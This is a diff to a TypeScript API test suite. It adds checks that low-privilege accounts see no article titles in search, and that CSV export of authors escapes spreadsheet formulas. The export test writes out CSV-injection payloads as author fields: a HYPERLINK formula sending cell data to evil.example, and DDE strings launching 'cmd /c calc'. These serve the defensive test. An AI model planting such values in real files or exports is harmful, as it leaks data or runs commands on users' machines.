@@ -175,17 +175,27 @@ describe('quick search and counts', () => {
     expect(proposals.find((p) => p.type === 'IMAGE')).toMatchObject({ collection: 'AUTHOR', authorId: 1 });
     expect(proposals.filter((p) => p.type === 'IMAGE').length).toBeLessThanOrEqual(5);
 
-    const panorama = (await as.lecteur<SearchProposal[]>('GET', '/api/search?query=panorama')).body;
+    const panorama = (await as.redaction<SearchProposal[]>('GET', '/api/search?query=panorama')).body;
     expect(panorama.some((p) => p.type === 'BUNDLE' || p.type === 'ARTICLE')).toBe(true);
-    const chronicle = (await as.lecteur<SearchProposal[]>('GET', '/api/search?query=chronique')).body.filter((p) => p.type === 'ARTICLE');
+    const chronicle = (await as.redaction<SearchProposal[]>('GET', '/api/search?query=chronique')).body.filter((p) => p.type === 'ARTICLE');
     expect(chronicle.length).toBeGreaterThan(0);
     expect(chronicle.every((p) => !p.label.includes('<'))).toBe(true);
     expect((await as.lecteur<SearchProposal[]>('GET', '/api/search?query=%20%20')).body).toEqual([]);
     expect((await as.lecteur<SearchProposal[]>('GET', '/api/search')).body).toEqual([]);
   });
 
+  it('gives no article or bundle title to an account that may not open the article list (spec 2 §6)', async () => {
+    for (const query of ['panorama', 'chronique']) {
+      const types = new Set((await as.lecteur<SearchProposal[]>('GET', `/api/search?query=${query}`)).body.map((p) => p.type));
+      expect(types.has('ARTICLE') || types.has('BUNDLE'), query).toBe(false);
+      const mediaTypes = new Set((await as.medias<SearchProposal[]>('GET', `/api/search?query=${query}`)).body.map((p) => p.type));
+      expect(mediaTypes.has('ARTICLE') || mediaTypes.has('BUNDLE'), query).toBe(false);
+    }
+    expect((await as.lecteur<SearchCounts>('GET', '/api/search/count?query=droit')).body.article).toBe(0);
+  });
+
   it('counts what each list would find', async () => {
-    const counts = (await as.lecteur<SearchCounts>('GET', '/api/search/count?query=droit')).body;
+    const counts = (await as.redaction<SearchCounts>('GET', '/api/search/count?query=droit')).body;
     expect(Object.keys(counts).sort()).toEqual(['ad', 'article', 'author', 'image', 'parution']);
     expect(counts.author).toBe((await search({ query: 'droit' })).resultCount);
     expect(counts.article).toBeGreaterThan(0);
@@ -585,5 +595,27 @@ describe('POST /api/image/search', () => {
     expect(recent.result.every((r) => r.modificationDate >= '2023-12-31T23:00:00.000Z')).toBe(true);
     const dates = recent.result.map((r) => r.modificationDate);
     expect([...dates].sort().reverse()).toEqual(dates);
+  });
+});
+
+describe('CSV export neutralises formulas (design.md)', () => {
+  it("writes a ' before every text cell that a spreadsheet would read as a formula", async () => {
+    const hostile: AuthorInput = {
+      type: 'MALE',
+      firstName: '=HYPERLINK("https://evil.example?d="&A1,"Voir")',
+      lastName: '+cmd|"/c calc"!A0',
+      notes: '@SUM(1+1)*cmd|"/c calc"!A0',
+      profiles: [{ type: 'WEBSITE', value: '-2+3' }],
+    };
+    const created = await as.redaction<Author>('POST', '/api/author', hostile);
+    expect(created.status).toBe(201);
+    const csv = (await as.lecteur<string>('GET', `/api/admin/export/authors-csv?ids=${created.body.id}`)).bytes.toString('utf8');
+    const row = csv.slice(1).trimEnd().split('\r\n')[1] ?? '';
+    expect(row).toContain(`;"'=HYPERLINK(""https://evil.example?d=""&A1,""Voir"")";`);
+    expect(row).toContain(`;"'+cmd|""/c calc""!A0";`);
+    expect(row).toContain(`;"'@SUM(1+1)*cmd|""/c calc""!A0";`);
+    // A cell that only contains such a value after a label is not a formula: left as it is.
+    expect(row).toContain(';Site web : -2+3;');
+    expect(row.split(';')[0]).toBe(String(created.body.id));
   });
 });
